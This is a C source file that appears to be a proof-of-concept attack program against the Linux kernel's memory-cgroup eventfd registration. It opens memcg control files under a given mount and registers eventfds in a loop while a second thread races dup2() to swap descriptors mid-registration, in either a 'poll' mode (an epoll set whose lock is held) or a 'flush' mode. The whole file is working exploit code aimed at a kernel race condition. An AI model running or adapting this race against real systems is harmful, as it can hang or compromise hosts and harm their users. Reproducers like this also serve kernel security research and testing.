/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* replace MOUNT poll|flush FILE: registers eventfds with memcg/, each of which becomes another file while
 * it is looked at; and that file, too. FILE is one of those of stubborn:
 *
 *   poll   an epoll set, the lock of which is held by who adds FILE to it
 *   flush  FILE itself, which whoever closes it does not get rid of */
#include "attacker.h"

#include <pthread.h>
#include <stdatomic.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>

#define DELAYS 64
#define DELAY_TURNS 200

static int set, file, other;
static atomic_int target = -1; /* what is to be replaced now */

static void *hold(void *unused) {
    struct epoll_event event = { .events = EPOLLIN };

    epoll_ctl(set, EPOLL_CTL_ADD, file, &event);
    return unused;
}

/* A little later each time, so that every moment of the registration has its turn. */
static void *replace(void *unused) {
    for (int i = 0;; i++) {
        int number;

        while ((number = atomic_exchange(&target, -1)) < 0)
            continue;
        for (atomic_int turns = 0; turns < i % DELAYS * DELAY_TURNS;)
            turns++;
        dup2(other, number);
    }
    return unused;
}

int main(int argc, char **argv) {
    int number, usage, event_control;
    pthread_t holder, replacer;

    demand_arguments(argc, 3, "replace MOUNT poll|flush FILE");
    usage = open_below(argv[1], "memcg/memory.usage_in_bytes", O_RDONLY);
    event_control = open_below(argv[1], "memcg/cgroup.event_control", O_WRONLY);
    other = file = open(argv[3], O_RDWR);
    if (file < 0)
        fail(argv[3]);
    if (strcmp(argv[2], "poll") == 0) {
        other = set = epoll_create1(0);
        pthread_create(&holder, NULL, hold, NULL);
    }

    getchar(); /* until the lock is held */
    pthread_create(&replacer, NULL, replace, NULL);
    say("attacking");
    while ((number = eventfd(0, 0)) >= 0) {
        atomic_store(&target, number);
        register_eventfd(event_control, number, usage);
        register_eventfd(event_control, other, usage);
    }
    say("out of descriptors"); /* what was replaced must not be closed: it would hang here */
    pause();
    return EXIT_SUCCESS;
}
